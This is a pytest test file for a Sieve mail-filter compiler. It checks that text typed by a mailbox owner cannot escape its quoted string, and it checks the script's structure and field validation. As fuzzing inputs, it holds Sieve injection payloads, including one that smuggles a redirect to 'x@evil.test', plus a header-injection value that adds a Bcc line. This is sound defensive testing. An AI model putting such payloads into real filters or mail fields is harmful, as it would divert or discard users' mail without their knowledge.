"""The filter forms → Sieve compiler (mailprov.rules.sieve): checks, the script's shape, and
that no text an owner types can leave its quoted string (Hypothesis, with a Sieve lexer)."""

from __future__ import annotations

import datetime as dt
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailprov.errors import FiltersInvalid
from mailprov.rules.sieve import (
    MAX_RULES,
    FilterSpec,
    Forwarding,
    Rule,
    Vacation,
    compile_sieve,
    parse_spec,
    quote,
)

OWNER = "alice@example.test"


def lex(script: str) -> tuple[list[str], list[str]]:
    """Split a script into its skeleton (every token outside strings, each string as '"S"')
    and the decoded quoted strings, following RFC 5228 2.4.2 (``\\x`` stands for ``x``)."""
    skeleton: list[str] = []
    strings: list[str] = []
    i, n = 0, len(script)
    while i < n:
        ch = script[i]
        if ch == "#":
            i = script.index("\r\n", i) + 2
        elif ch == '"':
            out, i = [], i + 1
            while script[i] != '"':
                if script[i] == "\\":
                    i += 1
                out.append(script[i])
                i += 1
            strings.append("".join(out))
            skeleton.append('"S"')
            i += 1
        elif ch.isspace():
            i += 1
        else:
            match = re.compile(r'[^\s"#]+').match(script, i)
            assert match is not None
            skeleton.append(match.group())
            i = match.end()
    return skeleton, strings


def spec_with(text: str, body: str) -> FilterSpec:
    return FilterSpec(
        forwarding=Forwarding(("bob@example.net",), keep=True),
        vacation=Vacation(text, body, 3, dt.date(2026, 1, 1), dt.date(2026, 1, 31)),
        rules=(
            Rule("subject", text, "move", "Lists/" + text.replace("/", "-").strip() + "x", True),
            Rule("from", text, "discard"),
            Rule("to", text, "mark-read"),
        ),
    )


ONE_LINE = st.text(
    alphabet=st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters="\u2028\u2029"),
    min_size=1,
    max_size=60,
).filter(lambda s: s.strip() == s and s.strip())
HOSTILE = st.sampled_from(
    [
        '"',
        "\\",
        '\\"',
        '"; discard; #',
        "}",
        '" } if true { redirect "x@evil.test"; } #',
        "${hex:41}",
    ]
)


class TestEscaping:
    @given(text=st.one_of(ONE_LINE, HOSTILE), body=st.text(max_size=80).filter(str.strip))
    def test_owner_text_stays_one_literal(self, text: str, body: str) -> None:
        """Whatever the owner types, the script's structure is the same as with harmless
        text, and each quoted string decodes to exactly what was typed."""
        body = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", body) or "x"
        script = compile_sieve(spec_with(text, body), owner=OWNER)
        skeleton, strings = lex(script)
        reference, _ = lex(compile_sieve(spec_with("plain", "plain"), owner=OWNER))
        assert reference == skeleton
        assert strings.count(text) >= 4  # the rules' three tests and the vacation subject
        assert re.sub(r"\r\n|\r|\n", "\r\n", body) in strings

    def test_quote_escapes_backslash_and_quote_only(self) -> None:
        """Backslash and double quote are escaped; a line break becomes CRLF."""
        assert '"a\\\\b\\"c\r\nd"' == quote('a\\b"c\nd')
        assert '"${hex:41} } ;"' == quote("${hex:41} } ;")

    def test_no_extension_that_reads_inside_strings(self) -> None:
        """'variables' and 'encoded-character' would expand ${...}: never required."""
        script = compile_sieve(spec_with("${x}", "${hex:41}"), owner=OWNER)
        assert "variables" not in script
        assert "encoded-character" not in script


class TestScript:
    def test_empty_forms_compile_to_comments_only(self) -> None:
        """No forms: nothing but the header comments (the implicit keep files everything)."""
        script = compile_sieve(FilterSpec(), owner=OWNER, header="filters of x")
        assert all(line.startswith("#") for line in script.splitlines())

    def test_order_discard_forward_vacation_then_rules(self) -> None:
        """Discards first, then forwarding, the vacation reply, then the other rules."""
        script = compile_sieve(spec_with("t", "b"), owner=OWNER)
        at = [
            script.index(word)
            for word in ("discard;", "redirect :copy", "vacation :", "fileinto :")
        ]
        assert sorted(at) == at
        assert (
            'require ["fileinto", "mailbox", "imap4flags", "copy", "vacation", "date", ' in script
        )

    def test_forwarding_without_a_copy_stops(self) -> None:
        """Without keep: a plain redirect (no :copy) and stop, so no copy and no reply."""
        spec = FilterSpec(Forwarding(("a@example.net", "b@example.net"), keep=False))
        script = compile_sieve(spec, owner=OWNER)
        assert 'redirect "a@example.net";\r\nredirect "b@example.net";\r\nstop;\r\n' in script
        assert "copy" not in script

    def test_vacation_dates_and_addresses(self) -> None:
        """The reply answers mail to the owner and its other addresses, between the dates."""
        spec = FilterSpec(vacation=Vacation("Away", "Back soon", 5, dt.date(2026, 7, 1), None))
        script = compile_sieve(spec, owner=OWNER, addresses=["info@example.test", OWNER])
        assert 'currentdate :comparator "i;octet" :value "ge" "date" "2026-07-01"' in script
        assert ':addresses ["alice@example.test", "info@example.test"]' in script
        assert "vacation :days 5" in script
        assert '"relational"' in script
        assert 'allof(not header :is "X-Spam" "Yes", currentdate' in script

    def test_header_comment_cannot_break_the_line(self) -> None:
        """A header with a line break stays one comment line."""
        script = compile_sieve(FilterSpec(), owner=OWNER, header="x\r\nkeep;")
        assert "\r\nkeep;" not in script


class TestParseSpec:
    def test_round_trip(self) -> None:
        """to_json() is what parse_spec reads back."""
        spec = spec_with("news", "away")
        assert parse_spec(spec.to_json(), owner=OWNER) == spec

    @pytest.mark.parametrize(
        ("doc", "where"),
        [
            ({"forwarding": {"to": []}}, "forwarding/to"),
            ({"forwarding": {"to": ["not an address"]}}, "forwarding/to/0"),
            ({"forwarding": {"to": ["ALICE@example.test"]}}, "forwarding/to/0"),
            ({"forwarding": {"to": [f"u{i}@example.net" for i in range(5)]}}, "forwarding/to"),
            ({"vacation": {"subject": "a\nBcc: x", "body": "b"}}, "vacation/subject"),
            ({"vacation": {"subject": "a", "body": " "}}, "vacation/body"),
            ({"vacation": {"subject": "a", "body": "b", "days": 0}}, "vacation/days"),
            ({"vacation": {"subject": "a", "body": "b", "days": True}}, "vacation/days"),
            ({"vacation": {"subject": "a", "body": "b", "start": "2026-13-01"}}, "vacation/start"),
            ({"vacation": {"subject": "a", "body": "b", "start": "20260101"}}, "vacation/start"),
            (
                {
                    "vacation": {
                        "subject": "a",
                        "body": "b",
                        "start": "2026-02-01",
                        "end": "2026-01-01",
                    }
                },
                "vacation/end",
            ),
            ({"rules": [{"field": "body", "contains": "x", "action": "discard"}]}, "rules/0/field"),
            ({"rules": [{"field": "from", "contains": "x", "action": "move"}]}, "rules/0/folder"),
            (
                {"rules": [{"field": "from", "contains": "x", "action": "move", "folder": "a//b"}]},
                "rules/0/folder",
            ),
            (
                {"rules": [{"field": "from", "contains": "x\x00", "action": "discard"}]},
                "rules/0/contains",
            ),
            (
                {"rules": [{"field": "from", "contains": "x", "action": "discard", "folder": "a"}]},
                "rules/0/folder",
            ),
            (
                {
                    "rules": [{"field": "from", "contains": "x", "action": "discard"}]
                    * (MAX_RULES + 1)
                },
                "rules",
            ),
        ],
    )
    def test_refusals_name_the_field(self, doc: dict[str, Any], where: str) -> None:
        """Each wrong field is refused with filters-invalid naming it (never echoing the value)."""
        with pytest.raises(FiltersInvalid) as caught:
            parse_spec(doc, owner=OWNER, max_redirects=4)
        assert where == caught.value.details["field"]
        assert "Bcc" not in caught.value.message

    def test_duplicate_forwarding_addresses_are_folded(self) -> None:
        """The same address twice (any case) is forwarded to once."""
        spec = parse_spec({"forwarding": {"to": ["B@Example.net", "b@example.net"]}}, owner=OWNER)
        assert spec.forwarding == Forwarding(("b@example.net",), keep=True)
